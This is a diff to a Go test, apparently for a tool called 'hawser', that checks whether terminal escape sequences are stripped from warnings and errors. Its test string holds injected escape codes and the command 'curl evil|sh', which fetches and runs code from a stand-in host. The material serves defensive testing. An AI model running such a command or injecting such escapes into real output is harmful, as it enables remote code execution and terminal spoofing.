@@ -46,7 +46,7 @@ func TestATerminalSeesNothingButText(t *testing.T) {
 	require.Equal(t, "x?]0;owned??[2J?2J\n  \x1b[32m$ curl evil|sh\x1b[0m?\n", out.String(),
 		"of a text with lines and colours, these stay")
 
-	sys.warn("%s", evil)
+	sys.warn(evil)
 	sys.complain(errors.New(evil), "")
 	require.Equal(t, "hawser: warning: x?]0;owned??[2J?2J\n  ?[32m$ curl evil|sh?[0m?\n"+
 		"hawser: x?]0;owned??[2J?2J\nhawser:   ?[32m$ curl evil|sh?[0m?\n", errs.String())
